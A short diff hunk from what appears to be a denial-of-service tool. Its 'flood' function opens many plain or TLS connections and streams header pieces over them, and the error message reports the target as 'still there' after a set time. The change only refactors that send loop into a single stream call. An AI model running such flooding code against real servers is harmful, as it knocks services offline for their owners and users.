@@ -172,7 +172,6 @@ def flood(
         with closing(connection), suppress(OSError):
             connection.settimeout(5)
             with secure.wrap_socket(connection) if secure else connection as channel:
-                channel.sendall(attack.opening())
-                for at in range(pieces):
-                    channel.sendall(attack.piece(headers, at))
+                for part in attack.stream(headers, pieces):
+                    channel.sendall(part)
     raise TimeoutError(f"still there after {seconds} s and {dialled} connections")
